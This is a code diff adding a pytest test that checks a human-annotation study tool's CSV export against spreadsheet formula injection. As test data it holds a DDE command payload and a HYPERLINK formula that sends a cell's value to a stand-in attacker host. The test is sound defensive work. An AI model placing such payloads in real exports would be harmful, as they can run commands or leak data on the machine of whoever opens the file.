@@ -36,3 +36,32 @@ def test_human_results_follow_the_model_result_schema(db, samples, annotators):
         json.dumps(row)
     pool = [r["score"] for r in rows if r["model"] == "human"]
     assert sum(pool) / len(pool) == pytest.approx(0.5)
+
+
+FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"]
+
+
+def test_the_csv_export_writes_no_formula_and_the_jsonl_keeps_the_text(db, samples, annotators):
+    """Issue 19, item 8: answers and a study name a spreadsheet would run."""
+    study_id = study.create_study(db, name='=HYPERLINK("http://evil.example/?"&A1,"x")', suite="test-hard",
+                                  samples=samples, n_items=6, annotator_ids=[annotators[0]["id"]],
+                                  practice_items=1, gold_items=1)
+    user_id = annotators[0]["id"]
+    study.accept_rule(db, study_id, user_id)
+    typed = [*FORMULAS, "-2", "plain"]
+    while (view := study.open_question(db, study_id, user_id)) is not None:
+        study.submit_answer(db, user_id, view.assignment_id, typed.pop(0))
+    for kinds in (study.COUNTED_KINDS, ("practice", "gold")):
+        rows = study.export_rows(db, study_id, kinds=kinds)
+        text = study.to_csv(rows, study.EXPORT_COLUMNS)
+        parsed = list(csv.reader(io.StringIO(text, newline="")))
+        assert len(parsed) == len(rows) + 1  # no cell broke a line
+        cells = [cell for row in parsed for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+        assert not [c for c in cells if c.startswith("-") and c != "-2" and not c.lstrip("-").replace(".", "").isdigit()]
+        assert all(row[0] == "'" + rows[0]["study"] for row in parsed[1:])
+        # The JSONL keeps every text exactly.
+        assert [json.loads(line) for line in study.to_jsonl(rows).splitlines()] == rows
+    responses = {r["response"] for r in study.export_rows(db, study_id)} | {
+        r["response"] for r in study.export_rows(db, study_id, kinds=("practice", "gold"))}
+    assert set(FORMULAS) <= responses
